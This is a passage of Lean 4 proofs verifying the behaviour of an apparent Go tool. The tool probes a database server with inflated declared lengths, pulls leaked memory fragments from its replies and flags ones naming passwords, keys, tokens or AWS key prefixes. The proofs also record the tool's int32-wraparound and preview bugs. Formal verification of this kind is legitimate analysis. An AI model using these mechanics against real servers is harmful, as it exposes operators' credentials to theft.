  have h := extractLeaks_of_raw L r raw h25 hraw
  refine ⟨h, ?_⟩
  intro leaks hl
  rw [h] at hl
  have : leaks = fieldLeaks raw ++ typeLeaks raw := (Option.some.inj hl).symm
  rw [this]
  simp

theorem C16_field_then_type_witness :
    extractLeaks refLib (Slice.exact (plainResponse (ascii "type 7 before field name "
        ++ [quote] ++ ascii "secretkey" ++ [quote] ++ ascii " and type 65")))
      = some [ascii "secretkey", [7], [65]] :=
  (C16_field_then_type_order refLib (Slice.exact (plainResponse (ascii "type 7 before field name "
        ++ [quote] ++ ascii "secretkey" ++ [quote] ++ ascii " and type 65")))
      (ascii "type 7 before field name " ++ [quote] ++ ascii "secretkey" ++ [quote]
        ++ ascii " and type 65") (by decide) (by decide)).1.trans (by decide)

theorem wrapInt32_range (x : Int) : -2147483648 ≤ wrapInt32 x ∧ wrapInt32 x ≤ 2147483647 := by
  unfold wrapInt32
  split <;> omega

theorem wrapInt32_of_range (x : Int) (h : -2147483648 ≤ x ∧ x ≤ 2147483647) :
    wrapInt32 x = x := by
  unfold wrapInt32
  split <;> omega

theorem scanLoop_round (L : GoLib) (net : Nat → List Byte → Exchange) (maxOffset : Int)
    (fuel n : Nat) (docLen : Int) (st st2 : ScanState) (hle : docLen ≤ maxOffset)
    (hstep : probeStep L st (sendProbe L (net n) docLen (wrapInt32 (docLen + 500))) = some st2) :
    scanLoop L net maxOffset (fuel + 1) n docLen st
      = ⟨(docLen, wrapInt32 (docLen + 500))
            :: (scanLoop L net maxOffset fuel (n + 1) (wrapInt32 (docLen + 1)) st2).probes,
          (scanLoop L net maxOffset fuel (n + 1) (wrapInt32 (docLen + 1)) st2).state,
          (scanLoop L net maxOffset fuel (n + 1) (wrapInt32 (docLen + 1)) st2).outcome⟩ := by
  rw [scanLoop, if_pos hle, hstep]

theorem scanLoop_exit (L : GoLib) (net : Nat → List Byte → Exchange) (maxOffset : Int)
    (fuel n : Nat) (docLen : Int) (st : ScanState) (hgt : ¬ docLen ≤ maxOffset) :
    scanLoop L net maxOffset (fuel + 1) n docLen st = ⟨[], st, ScanOutcome.finished⟩ := by
  rw [scanLoop, if_neg hgt]

/-- Claim C18: when the response carries opcode 2012 and the decompression of
its payload `response[25:msgLen]` reports an error, `extractLeaks` returns no
fragments, whatever bytes the failed decompression produced; the driver then
goes on with the next declared length, its result buffer, seen map and label
map being what they were. -/
theorem C18_decompression_error_skips_probe (L : GoLib) (net : Nat → List Byte → Exchange)
    (maxOffset docLen : Int) (fuel n : Nat) (st : ScanState) (r : Slice) (c : List Byte)
    (hop : uint32LE ((r.elems.take 16).drop 12) = 2012)
    (hslice : r.reslice 25 (uint32LE (r.elems.take 4)) = some c)
    (herr : (decompressZlib L c).2 = true)
    (hle : docLen ≤ maxOffset)
    (hsend : sendProbe L (net n) docLen (wrapInt32 (docLen + 500)) = some r) :
    extractLeaks L r = some []
      ∧ probeStep L st (some r) = some st
      ∧ (scanLoop L net maxOffset (fuel + 1) n docLen st).state
          = (scanLoop L net maxOffset fuel (n + 1) (wrapInt32 (docLen + 1)) st).state
      ∧ (scanLoop L net maxOffset (fuel + 1) n docLen st).probes
          = (docLen, wrapInt32 (docLen + 500))
              :: (scanLoop L net maxOffset fuel (n + 1) (wrapInt32 (docLen + 1)) st).probes := by
  have hx : extractLeaks L r = some [] := by
    unfold extractLeaks
    by_cases hlen : r.len < 25
    · rw [if_pos hlen]
    · rw [if_neg hlen]
      have hdec : decodeResponse L r = Decoded.noData := by
        unfold decodeResponse
        simp only
        rw [if_pos ⟨hop, by omega⟩, hslice]
        rcases hd : decompressZlib L c with ⟨out, err⟩
        rw [hd] at herr
        simp only at herr
        subst herr
        simp only [hd]
      rw [hdec]
  have hstep : probeStep L st (some r) = some st := by
    unfold probeStep
    simp only [hx]
    rfl
  have hround := scanLoop_round L net maxOffset fuel n docLen st st hle (by rw [hsend, hstep])
  exact ⟨hx, hstep, by rw [hround], by rw [hround]⟩

theorem C18_decompression_error_witness :
    extractLeaks refLib (Slice.exact garbledResponse) = some []
      ∧ (scan refLib (stubNet garbledResponse) 20 21 3).state.allLeaked = []
      ∧ (scan refLib (stubNet garbledResponse) 20 21 3).probes = [(20, 520), (21, 521)] :=
  ⟨(C18_decompression_error_skips_probe refLib (stubNet garbledResponse) 21 20 2 0
      ScanState.initial (Slice.exact garbledResponse) [0xde, 0xad, 0xbe, 0xef, 0x00]
      (by decide) (by decide) (by decide) (by decide) rfl).1,
    by decide, by decide⟩

/-! ## The two deduplication loops, the receive loop, the preview -/

/-- Claim C20: the loop keyed by `string(data)` (the loop of `main`, and the
"old approach" of `test_fix.go`) and the loop keyed by `encodeKey(data)` (the
"new approach") give the same result buffer and the same number of keys, on
every sequence of fragments, whatever their bytes. -/
theorem C20_dedup_loops_equivalent (L : GoLib) (input : List (List Byte)) :
    (oldApproach input).1 = (newApproach input).1
      ∧ mapLen (oldApproach input).2 = mapLen (newApproach input).2
      ∧ (recordLeaks L ScanState.initial input).allLeaked = (newApproach input).1
      ∧ mapLen (recordLeaks L ScanState.initial input).uniqueLeaks
          = mapLen (newApproach input).2 := by
  have hold := foldl_dedupStep goString goString_injective input
  have hnew := foldl_dedupStep encodeKey encodeKey_injective input
  have hmain := recordLeaks_dedup L input ScanState.initial
  have hm1 := congrArg Prod.fst hmain
  have hm2 := congrArg Prod.snd hmain
  simp only at hm1 hm2
  unfold oldApproach newApproach
  rw [hm1, hm2]
  simp only [ScanState.initial, hold, hnew, mapLen, List.length_map, and_self]

theorem receiveLoop_spec (reads : List (List Byte)) :
    ∀ acc : List Byte, ∃ k, k ≤ reads.length
      ∧ receiveLoop reads acc = acc ++ (reads.take k).flatten
      ∧ (∀ j, 1 ≤ j → j < k → ¬ FrameComplete (acc ++ (reads.take j).flatten))
      ∧ ((1 ≤ k ∧ FrameComplete (acc ++ (reads.take k).flatten)) ∨ k = reads.length) := by
  induction reads with
  | nil =>
    intro acc
    exact ⟨0, by simp, by simp [receiveLoop], by intro j h1 h2; omega, Or.inr rfl⟩
  | cons chunk reads ih =>
    intro acc
    by_cases hc : FrameComplete (acc ++ chunk)
    · refine ⟨1, by simp, ?_, by intro j h1 h2; omega, Or.inl ⟨le_refl 1, by simpa using hc⟩⟩
      have h4 : (acc ++ chunk).length ≥ 4 := hc.1
      have hm : (acc ++ chunk).length ≥ uint32LE ((acc ++ chunk).take 4) := hc.2
      rw [receiveLoop, if_pos h4, if_pos hm]
      simp
    · obtain ⟨k, hk, heq, hmin, hend⟩ := ih (acc ++ chunk)
      have hstep : receiveLoop (chunk :: reads) acc = receiveLoop reads (acc ++ chunk) := by
        rw [receiveLoop]
        by_cases h4 : (acc ++ chunk).length ≥ 4
        · rw [if_pos h4, if_neg (fun hm => hc ⟨h4, hm⟩)]
        · rw [if_neg h4]
      refine ⟨k + 1, by simp; omega, ?_, ?_, ?_⟩
      · rw [hstep, heq]; simp
      · intro j h1 h2
        obtain ⟨i, rfl⟩ : ∃ i, j = i + 1 := ⟨j - 1, by omega⟩
        by_cases hi : i = 0
        · subst hi; simpa using hc
        · have := hmin i (by omega) (by omega)
          simpa using this
      · rcases hend with ⟨h1, hfc⟩ | hlen
        · exact Or.inl ⟨by omega, by simpa using hfc⟩
        · exact Or.inr (by simp [hlen])

/-- Claim C17: with the socket delivering the chunks `reads` and then an
error, `sendProbe` (once dial and write succeeded) returns without error the
concatenation of the first `k` chunks, where `k` is the least number of chunks
after which the buffer holds at least 4 bytes and at least as many as the
length in its first four bytes; when no number of chunks achieves that, it is
all of them (a response cut short, not a failure). -/
theorem C17_receive_loop_shortest_complete (L : GoLib) (net : List Byte → Exchange)
    (docLen bufferSize : Int)
    (hdial : (net (probeFrame L docLen bufferSize)).dialOk = true)
    (hwrite : (net (probeFrame L docLen bufferSize)).writeOk = true) :
    ∃ k, k ≤ (net (probeFrame L docLen bufferSize)).reads.length
      ∧ sendProbe L net docLen bufferSize
          = some ⟨((net (probeFrame L docLen bufferSize)).reads.take k).flatten,
              (net (probeFrame L docLen bufferSize)).spare⟩
      ∧ (∀ j, j < k →
          ¬ FrameComplete (((net (probeFrame L docLen bufferSize)).reads.take j).flatten))
      ∧ (FrameComplete (((net (probeFrame L docLen bufferSize)).reads.take k).flatten)
          ∨ k = (net (probeFrame L docLen bufferSize)).reads.length) := by
  obtain ⟨k, hk, heq, hmin, hend⟩ :=
    receiveLoop_spec (net (probeFrame L docLen bufferSize)).reads []
  refine ⟨k, hk, ?_, ?_, ?_⟩
  · unfold sendProbe
    simp only [hdial, hwrite, Bool.not_true, Bool.false_eq_true, if_false]
    rw [heq, List.nil_append]
  · intro j hj
    by_cases h0 : j = 0
    · subst h0
      intro hc
      have := hc.1
      simp at this
    · have := hmin j (by omega) hj
      simpa using this
  · rcases hend with ⟨_, hfc⟩ | hlen
    · exact Or.inl (by simpa using hfc)
    · exact Or.inr hlen

theorem C17_receive_loop_witness :
    ∃ k, k ≤ 4
      ∧ sendProbe refLib (fun _ => ⟨true, true, [[8, 0], [0, 0, 1], [2, 3, 4], [5, 6]], []⟩) 20 520
          = some ⟨([[8, 0], [0, 0, 1], [2, 3, 4], [5, 6]].take k).flatten, []⟩
      ∧ (∀ j, j < k → ¬ FrameComplete (([[8, 0], [0, 0, 1], [2, 3, 4], [5, 6]].take j).flatten))
      ∧ (FrameComplete (([[8, 0], [0, 0, 1], [2, 3, 4], [5, 6]].take k).flatten) ∨ k = 4) :=
  C17_receive_loop_shortest_complete refLib
    (fun _ => ⟨true, true, [[8, 0], [0, 0, 1], [2, 3, 4], [5, 6]], []⟩) 20 520 rfl rfl

theorem formatPreview_of_valid (data : List Byte) (h : utf8Valid data = true) :
    formatPreview data = data.take 80 := by
  unfold formatPreview goString
  rw [if_pos h]
  by_cases hl : data.length > 80
  · rw [if_pos hl]
  · rw [if_neg hl, List.take_of_length_le (by omega)]

set_option maxRecDepth 100000 in
/-- Claim C15, as the code has it: `formatPreview` decides between text and hex
by `utf8.Valid`, and the four bytes `00 01 02 03` are valid UTF-8 (control
characters), so it returns these four bytes themselves and not the string
`[binary: 4 bytes] 00010203` that the claim and test case 4 expect. The text
part of the claim holds: valid text comes back unchanged up to 80 bytes and cut
to its first 80 bytes beyond, 100 letters `A` give 80; and bytes that are not
valid UTF-8, such as `ff 01 02 03`, are rendered in hex. -/
theorem C15_formatPreview_control_bytes_as_text (data : List Byte) :
    formatPreview [0x00, 0x01, 0x02, 0x03] = [0x00, 0x01, 0x02, 0x03]
      ∧ formatPreview [0x00, 0x01, 0x02, 0x03] ≠ ascii "[binary: 4 bytes] 00010203"
      ∧ (utf8Valid data = true → formatPreview data = data.take 80)
      ∧ formatPreview (List.replicate 100 0x41) = List.replicate 80 0x41
      ∧ formatPreview [0xff, 0x01, 0x02, 0x03] = ascii "[binary: 4 bytes] ff010203" := by
  refine ⟨by decide, by decide, formatPreview_of_valid data, ?_, by decide⟩
  rw [formatPreview_of_valid _ (by decide)]
  decide

/-! ## Secret labels -/

theorem stringsContains_iff (s sub : List Byte) :
    stringsContains s sub = true ↔ ∃ pre post, s = pre ++ sub ++ post := by
  induction s with
  | nil =>
    unfold stringsContains
    rw [Option.isSome_iff_exists]
    constructor
    · rintro ⟨r, hr⟩
      exact ⟨[], r, by simpa using (stripLit_eq_some sub [] r).1 hr⟩
    · rintro ⟨pre, post, h⟩
      have h2 : sub = [] := by
        have := congrArg List.length h
        simp at this
        exact List.eq_nil_of_length_eq_zero (by omega)
      exact ⟨[], by rw [h2]; rfl⟩
  | cons b s ih =>
    unfold stringsContains
    rw [Bool.or_eq_true, Option.isSome_iff_exists, ih]
    constructor
    · rintro (⟨r, hr⟩ | ⟨pre, post, h⟩)
      · exact ⟨[], r, by simpa using (stripLit_eq_some sub (b :: s) r).1 hr⟩
      · exact ⟨b :: pre, post, by rw [h]; simp⟩
    · rintro ⟨pre, post, h⟩
      cases pre with
      | nil => exact Or.inl ⟨post, (stripLit_eq_some sub (b :: s) post).2 (by simpa using h)⟩
      | cons p pre =>
        simp only [List.cons_append, List.cons.injEq] at h
        exact Or.inr ⟨pre, post, h.2⟩

theorem mapSet_trueMap_old (ks : List (List Byte)) (k : List Byte) (h : k ∈ ks) :
    mapSet (ks.map (fun x => (x, true))) k true = ks.map (fun x => (x, true)) := by
  unfold mapSet
  have hany : (ks.map (fun x => (x, true))).any (fun e => e.1 == k) = true := by
    rw [List.any_eq_true]
    exact ⟨(k, true), List.mem_map.2 ⟨k, h, rfl⟩, by simp⟩
  rw [if_pos hany, List.map_map]
  apply List.map_congr_left
  intro x _
  by_cases hx : x = k
  · simp [hx]
  · simp [hx]

theorem mapSet_trueMap (ks : List (List Byte)) (k : List Byte) :
    mapSet (ks.map (fun x => (x, true))) k true = (addLabel ks k).map (fun x => (x, true)) := by
  unfold addLabel
  by_cases h : k ∈ ks
  · rw [if_pos h, mapSet_trueMap_old ks k h]
  · rw [if_neg h, mapSet_trueMap_new ks k h]

theorem foldl_mapSet_trueMap (labels ks : List (List Byte)) :
    labels.foldl (fun m secret => mapSet m secret true) (ks.map (fun x => (x, true)))
      = (labels.foldl addLabel ks).map (fun x => (x, true)) := by
  induction labels generalizing ks with
  | nil => rfl
  | cons l ls ih => rw [List.foldl_cons, List.foldl_cons, mapSet_trueMap, ih]

theorem addLabel_nodup (ks : List (List Byte)) (k : List Byte) (h : ks.Nodup) :
    (addLabel ks k).Nodup := by
  unfold addLabel
  by_cases hk : k ∈ ks
  · rw [if_pos hk]; exact h
  · rw [if_neg hk]
    exact List.Nodup.append h (List.nodup_singleton k) (by simpa using hk)

theorem mem_addLabel (ks : List (List Byte)) (k x : List Byte) :
    x ∈ addLabel ks k ↔ x ∈ ks ∨ x = k := by
  unfold addLabel
  by_cases hk : k ∈ ks
  · rw [if_pos hk]
    constructor
    · exact Or.inl
    · rintro (h | h)
      · exact h
      · exact h ▸ hk
  · rw [if_neg hk]; simp

theorem foldl_addLabel (labels ks : List (List Byte)) (h : ks.Nodup) :
    (labels.foldl addLabel ks).Nodup
      ∧ ∀ x, x ∈ labels.foldl addLabel ks ↔ x ∈ ks ∨ x ∈ labels := by
  induction labels generalizing ks with
  | nil => simp [h]
  | cons l ls ih =>
    rw [List.foldl_cons]
    obtain ⟨h1, h2⟩ := ih (addLabel ks l) (addLabel_nodup ks l h)
    refine ⟨h1, fun x => ?_⟩
    rw [h2, mem_addLabel, List.mem_cons]
    tauto

/-- The label map of `main` holds distinct labels, all with the value `true`;
a round of the inner loop keeps those it has and, when the fragment is new,
adds the labels of the fragment. -/
theorem recordLeak_labels (L : GoLib) (st : ScanState) (data : List Byte)
    (ks : List (List Byte)) (hks : ks.Nodup)
    (hst : st.secretPatterns = ks.map (fun x => (x, true))) :
    ∃ ks2 : List (List Byte), ks2.Nodup
      ∧ (recordLeak L st data).secretPatterns = ks2.map (fun x => (x, true))
      ∧ (∀ x, x ∈ ks → x ∈ ks2)
      ∧ (mapGet st.uniqueLeaks (goString data) = false →
          ∀ x, x ∈ containsSecret L data → x ∈ ks2) := by
  unfold recordLeak
  by_cases hseen : mapGet st.uniqueLeaks (goString data) = true
  · refine ⟨ks, hks, by simp [hseen, hst], fun x hx => hx, ?_⟩
    intro hf; rw [hseen] at hf; exact absurd hf (by simp)
  · have hf : mapGet st.uniqueLeaks (goString data) = false := by simpa using hseen
    obtain ⟨h1, h2⟩ := foldl_addLabel (containsSecret L data) ks hks
    refine ⟨(containsSecret L data).foldl addLabel ks, h1, ?_, ?_, ?_⟩
    · simp only [hf, Bool.not_false, if_true]
      rw [hst, foldl_mapSet_trueMap]
    · intro x hx; exact (h2 x).2 (Or.inl hx)
    · intro _ x hx; exact (h2 x).2 (Or.inr hx)

theorem recordLeaks_labels (L : GoLib) (leaks : List (List Byte)) (st : ScanState)
    (ks : List (List Byte)) (hks : ks.Nodup)
    (hst : st.secretPatterns = ks.map (fun x => (x, true))) :
    ∃ ks2 : List (List Byte), ks2.Nodup
      ∧ (recordLeaks L st leaks).secretPatterns = ks2.map (fun x => (x, true))
      ∧ (∀ x, x ∈ ks → x ∈ ks2) := by
  induction leaks generalizing st ks with
  | nil => exact ⟨ks, hks, hst, fun x hx => hx⟩
  | cons d ds ih =>
    obtain ⟨k1, hk1, hs1, hsub1, _⟩ := recordLeak_labels L st d ks hks hst
    obtain ⟨k2, hk2, hs2, hsub2⟩ := ih (recordLeak L st d) k1 hk1 hs1
    refine ⟨k2, hk2, ?_, fun x hx => hsub2 x (hsub1 x hx)⟩
    unfold recordLeaks at hs2 ⊢
    rw [List.foldl_cons]
    exact hs2

theorem length_filter_eq_of_nodup (l : List (List Byte)) (a : List Byte) (hnd : l.Nodup)
    (h : a ∈ l) : (l.filter (fun k => decide (k = a))).length = 1 := by
  induction l with
  | nil => simp at h
  | cons b l ih =>
    rw [List.nodup_cons] at hnd
    by_cases hb : b = a
    · subst hb
      have hnil : l.filter (fun k => decide (k = b)) = [] := by
        rw [List.filter_eq_nil_iff]
        intro x hx hxb
        exact hnd.1 ((of_decide_eq_true hxb) ▸ hx)
      simp [List.filter_cons, hnil]
    · have hmem : a ∈ l := by
        rcases List.mem_cons.1 h with h1 | h1
        · exact absurd h1.symm hb
        · exact h1
      simp [List.filter_cons, hb, ih hnd.2 hmem]

theorem mem_containsSecret (L : GoLib) (data label : List Byte) :
    label ∈ containsSecret L data
      ↔ label ∈ secrets ∧ ∃ pre post, L.toLower data = pre ++ L.toLower label ++ post := by
  unfold containsSecret goString
  simp only [List.mem_filter, stringsContains_iff]

/-- Claim C11: `containsSecret` returns a sublist of the labels password,
secret, key, token, admin, AKIA (so in list order and each at most once), and
a label is in it exactly when its lower-cased form occurs as a substring of the
lower-cased fragment. With a lower-casing that leaves `password` as it is, any
non-empty run of fragments whose lower-cased text contains `password` gives
that label for each of them, and the label map of the driver then holds it
exactly once. -/
theorem C11_containsSecret_labels (L : GoLib) (data label : List Byte)
    (leaks : List (List Byte))
    (hpw : L.toLower (ascii "password") = ascii "password")
    (hne : leaks ≠ [])
    (hall : ∀ d ∈ leaks, ∃ pre post, L.toLower d = pre ++ ascii "password" ++ post) :
    List.Sublist (containsSecret L data)
        [ascii "password", ascii "secret", ascii "key", ascii "token", ascii "admin",
          ascii "AKIA"]
      ∧ (containsSecret L data).Nodup
      ∧ (label ∈ containsSecret L data
          ↔ label ∈ [ascii "password", ascii "secret", ascii "key", ascii "token",
                ascii "admin", ascii "AKIA"]
              ∧ ∃ pre post, L.toLower data = pre ++ L.toLower label ++ post)
      ∧ (∀ d ∈ leaks, ascii "password" ∈ containsSecret L d)
      ∧ (((recordLeaks L ScanState.initial leaks).secretPatterns.map Prod.fst).filter
          (fun k => decide (k = ascii "password"))).length = 1
      ∧ mapGet (recordLeaks L ScanState.initial leaks).secretPatterns (ascii "password")
          = true := by
  have hsub : List.Sublist (containsSecret L data) secrets := by
    unfold containsSecret; exact List.filter_sublist _
  have hnd : secrets.Nodup := by decide
  have hpwd : ∀ d ∈ leaks, ascii "password" ∈ containsSecret L d := by
    intro d hd
    rw [mem_containsSecret, hpw]
    exact ⟨by decide, hall d hd⟩
  refine ⟨hsub, hsub.nodup hnd, mem_containsSecret L data label, hpwd, ?_⟩
  cases leaks with
  | nil => exact absurd rfl hne
  | cons d ds =>
    obtain ⟨k1, hk1, hs1, _, hnew⟩ :=
      recordLeak_labels L ScanState.initial d [] List.nodup_nil rfl
    have hin1 : ascii "password" ∈ k1 :=
      hnew (by rfl) _ (hpwd d (List.mem_cons_self d ds))
    obtain ⟨k2, hk2, hs2, hsub2⟩ :=
      recordLeaks_labels L ds (recordLeak L ScanState.initial d) k1 hk1 hs1
    have hstate : recordLeaks L ScanState.initial (d :: ds)
        = recordLeaks L (recordLeak L ScanState.initial d) ds := by
      unfold recordLeaks; rw [List.foldl_cons]
    have hin2 : ascii "password" ∈ k2 := hsub2 _ hin1
    rw [hstate, hs2]
    refine ⟨?_, ?_⟩
    · rw [List.map_map]
      have : (Prod.fst ∘ fun x : List Byte => (x, true)) = id := rfl
      rw [this, List.map_id]
      exact length_filter_eq_of_nodup k2 (ascii "password") hk2 hin2
    · rw [mapGet_trueMap]; simpa using hin2

theorem C11_containsSecret_witness :
    containsSecret refLib (ascii "db PassWord=hunter2 api_KEY") = [ascii "password", ascii "key"]
      ∧ (((recordLeaks refLib ScanState.initial
            [ascii "my password", ascii "PASSWORD=1", ascii "my password",
              ascii "xx password yy"]).secretPatterns.map Prod.fst).filter
          (fun k => decide (k = ascii "password"))).length = 1 :=
  ⟨by decide,
    (C11_containsSecret_labels refLib [] []
      [ascii "my password", ascii "PASSWORD=1", ascii "my password", ascii "xx password yy"]
      (by decide) (by decide)
      (by
        intro d hd
        rw [← stringsContains_iff]
        revert d
        decide)).2.2.2.2.1⟩

/-! ## The scan loop -/

theorem recordLeak_initial (L : GoLib) (data : List Byte) :
    (recordLeak L ScanState.initial data).allLeaked = data
      ∧ (recordLeak L ScanState.initial data).uniqueLeaks = [(data, true)] := by
  unfold recordLeak ScanState.initial
  simp [mapGet, mapSet, goString]

/-- Claim C12: the scan with `minOffset = maxOffset = 20` whose one probe is
answered by a valid uncompressed frame (correct `messageLength`, opcode other
than 2012) with the payload `field name 'adminuser'` issues that one probe and
ends with the result buffer `adminuser`, one key in the seen map, and the label
`admin` in the label map (for a lower-casing that leaves the lower-case words
`adminuser` and `admin` as they are). -/
theorem C12_end_to_end_adminuser (L : GoLib) (net : Nat → List Byte → Exchange)
    (r spare : List Byte)
    (hlow1 : L.toLower (ascii "adminuser") = ascii "adminuser")
    (hlow2 : L.toLower (ascii "admin") = ascii "admin")
    (hmsg : uint32LE (r.take 4) = r.length)
    (hop : uint32LE ((r.take 16).drop 12) ≠ 2012)
    (hbody : r.drop 16 = adminText)
    (hsend : sendProbe L (net 0) 20 520 = some ⟨r, spare⟩) :
    (scan L net 20 20 2).outcome = ScanOutcome.finished
      ∧ (scan L net 20 20 2).probes = [(20, 520)]
      ∧ (scan L net 20 20 2).state.allLeaked = ascii "adminuser"
      ∧ mapLen (scan L net 20 20 2).state.uniqueLeaks = 1
      ∧ mapGet (scan L net 20 20 2).state.secretPatterns (ascii "admin") = true := by
  have hlen : 25 ≤ r.length := by
    have := congrArg List.length hbody
    rw [List.length_drop] at this
    have h22 : adminText.length = 22 := by decide
    omega
  have hx : extractLeaks L ⟨r, spare⟩ = some [ascii "adminuser"] := by
    rw [extractLeaks_wellFormed L r spare hlen hmsg hop, hbody]
    decide
  have hstep : probeStep L ScanState.initial (sendProbe L (net 0) 20 (wrapInt32 (20 + 500)))
      = some (recordLeak L ScanState.initial (ascii "adminuser")) := by
    have h520 : wrapInt32 (20 + 500) = 520 := by decide
    rw [h520, hsend]
    unfold probeStep
    simp only [hx]
    rfl
  have h20 : wrapInt32 20 = 20 := by decide
  have h21 : wrapInt32 (20 + 1) = 21 := by decide
  have hrun : scan L net 20 20 2
      = ⟨[(20, 520)], recordLeak L ScanState.initial (ascii "adminuser"),
          ScanOutcome.finished⟩ := by
    unfold scan
    rw [h20, scanLoop_round L net 20 1 0 20 _ _ (le_refl _) hstep, h21,
      scanLoop_exit L net 20 0 1 21 _ (by decide)]
    rfl
  obtain ⟨hbuf, hseen⟩ := recordLeak_initial L (ascii "adminuser")
  obtain ⟨ks, _, hlab, _, hnew⟩ :=
    recordLeak_labels L ScanState.initial (ascii "adminuser") [] List.nodup_nil rfl
  have hadmin : ascii "admin" ∈ containsSecret L (ascii "adminuser") := by
    rw [mem_containsSecret, hlow1, hlow2]
    exact ⟨by decide, [], ascii "user", by decide⟩
  rw [hrun]
  refine ⟨rfl, rfl, hbuf, by simp only [hseen]; rfl, ?_⟩
  simp only [hlab, mapGet_trueMap]
  simpa using hnew rfl _ hadmin

theorem C12_end_to_end_witness :
    (scan refLib (stubNet (plainResponse adminText)) 20 20 2).state.allLeaked = ascii "adminuser"
      ∧ mapLen (scan refLib (stubNet (plainResponse adminText)) 20 20 2).state.uniqueLeaks = 1
      ∧ mapGet (scan refLib (stubNet (plainResponse adminText)) 20 20 2).state.secretPatterns
          (ascii "admin") = true :=
  (C12_end_to_end_adminuser refLib (stubNet (plainResponse adminText)) (plainResponse adminText)
    [] (by decide) (by decide) (by decide) (by decide) (by decide) rfl).2.2

theorem scanLoop_never_finishes (L : GoLib) (net : Nat → List Byte → Exchange) :
    ∀ (fuel n : Nat) (docLen : Int) (st : ScanState), docLen ≤ 2147483647 →
      (scanLoop L net 2147483647 fuel n docLen st).outcome ≠ ScanOutcome.finished := by
  intro fuel
  induction fuel with
  | zero => intro n docLen st _; simp [scanLoop]
  | succ fuel ih =>
    intro n docLen st hle
    cases hstep : probeStep L st (sendProbe L (net n) docLen (wrapInt32 (docLen + 500))) with
    | none => simp [scanLoop, hle, hstep]
    | some st2 =>
      rw [scanLoop_round L net 2147483647 fuel n docLen st st2 hle hstep]
      exact ih (n + 1) _ st2 (wrapInt32_range _).2

theorem probeStep_deadNet (L : GoLib) (n : Nat) (d s : Int) (st : ScanState) :
    probeStep L st (sendProbe L (deadNet n) d s) = some st := rfl

theorem scanLoop_deadNet_rounds (L : GoLib) :
    ∀ (fuel n : Nat) (docLen : Int) (st : ScanState), docLen ≤ 2147483647 →
      (scanLoop L deadNet 2147483647 fuel n docLen st).probes.length = fuel := by
  intro fuel
  induction fuel with
  | zero => intro n docLen st _; simp [scanLoop]
  | succ fuel ih =>
    intro n docLen st hle
    rw [scanLoop_round L deadNet 2147483647 fuel n docLen st st hle
      (probeStep_deadNet L n docLen _ st)]
    simp only [List.length_cons]
    rw [ih (n + 1) _ st (wrapInt32_range _).2]

/-- Claim C14, as the code has it: with `maxOffset = 2147483647` the loop
condition `docLen <= int32(*maxOffset)` holds of every `int32`, and `docLen++`
wraps around to `-2147483648`: the scan loop never reaches its end, whatever
`minOffset`, the network and the number of rounds granted. On a network where
every probe fails it has issued as many probes as rounds were granted; for
`minOffset = maxOffset = 2147483647` these start with the declared lengths
2147483647, -2147483648, -2147483647 instead of being the single probe
2147483647. Apart from that, a response that makes `extractLeaks` panic ends
the loop early: answered by the first 25 bytes of a longer frame, the scan of
20..22 stops after its first probe. -/
theorem C14_scan_loop_wraps_at_max_int32 (L : GoLib) (net : Nat → List Byte → Exchange)
    (minOffset : Int) (fuel : Nat) :
    (scan L net minOffset 2147483647 fuel).outcome ≠ ScanOutcome.finished
      ∧ (scan L deadNet minOffset 2147483647 fuel).probes.length = fuel
      ∧ (scan L deadNet 2147483647 2147483647 3).probes.map Prod.fst
          = [2147483647, -2147483648, -2147483647]
      ∧ (scan refLib (stubNet truncatedResponse) 20 22 5).outcome = ScanOutcome.panicked
      ∧ (scan refLib (stubNet truncatedResponse) 20 22 5).probes = [(20, 520)] := by
  have hmax : wrapInt32 2147483647 = 2147483647 := by decide
  refine ⟨?_, ?_, ?_, by decide, by decide⟩
  · unfold scan
    rw [hmax]
    exact scanLoop_never_finishes L net fuel 0 _ _ (wrapInt32_range _).2
  · unfold scan
    rw [hmax]
    exact scanLoop_deadNet_rounds L fuel 0 _ _ (wrapInt32_range _).2
  · unfold scan
    rw [hmax, scanLoop_round L deadNet 2147483647 2 0 2147483647 _ _ (le_refl _)
        (probeStep_deadNet L 0 _ _ _),
      scanLoop_round L deadNet 2147483647 1 1 _ _ _ (wrapInt32_range _).2
        (probeStep_deadNet L 1 _ _ _),
      scanLoop_round L deadNet 2147483647 0 2 _ _ _ (wrapInt32_range _).2
        (probeStep_deadNet L 2 _ _ _)]
    simp only [scanLoop, List.map_cons, List.map_nil]
    decide

/-- Below the largest `int32` the loop does what is expected of it: for
`-2147483648 ≤ docLen` and `maxOffset < 2147483647`, when no response makes
`extractLeaks` panic, the loop started at `docLen` ends after the probes
`docLen, docLen + 1, ..., maxOffset`, each once and in this order. -/
theorem scanLoop_counts_up (L : GoLib) (net : Nat → List Byte → Exchange) (maxOffset : Int)
    (hmax : maxOffset < 2147483647)
    (hsafe : ∀ n d r, sendProbe L (net n) d (wrapInt32 (d + 500)) = some r →
      extractLeaks L r ≠ none) :
    ∀ (k fuel n : Nat) (docLen : Int) (st : ScanState), -2147483648 ≤ docLen →
      docLen + k = maxOffset + 1 → k < fuel →
      (scanLoop L net maxOffset fuel n docLen st).outcome = ScanOutcome.finished
        ∧ (scanLoop L net maxOffset fuel n docLen st).probes.map Prod.fst
            = (List.range k).map (fun i : Nat => docLen + i) := by
  intro k
  induction k with
  | zero =>
    intro fuel n docLen st _ hk hfuel
    obtain ⟨f, rfl⟩ : ∃ f, fuel = f + 1 := ⟨fuel - 1, by omega⟩
    rw [scanLoop_exit L net maxOffset f n docLen st (by omega)]
    exact ⟨rfl, rfl⟩
  | succ k ih =>
    intro fuel n docLen st hlo hk hfuel
    obtain ⟨f, rfl⟩ : ∃ f, fuel = f + 1 := ⟨fuel - 1, by omega⟩
    have hle : docLen ≤ maxOffset := by omega
    obtain ⟨st2, hstep⟩ : ∃ st2,
        probeStep L st (sendProbe L (net n) docLen (wrapInt32 (docLen + 500))) = some st2 := by
      cases hs : sendProbe L (net n) docLen (wrapInt32 (docLen + 500)) with
      | none => exact ⟨st, rfl⟩
      | some r =>
        cases hx : extractLeaks L r with
        | none => exact absurd hx (hsafe n docLen r hs)
        | some leaks => exact ⟨recordLeaks L st leaks, by simp [probeStep, hx]⟩
    have hnext : wrapInt32 (docLen + 1) = docLen + 1 :=
      wrapInt32_of_range _ ⟨by omega, by omega⟩
    rw [scanLoop_round L net maxOffset f n docLen st st2 hle hstep, hnext]
    obtain ⟨h1, h2⟩ := ih f (n + 1) (docLen + 1) st2 (by omega) (by push_cast at hk; omega)
      (by omega)
    refine ⟨h1, ?_⟩
    simp only [List.map_cons, h2, List.range_succ_eq_map, List.map_map]
    congr 1
    · simp
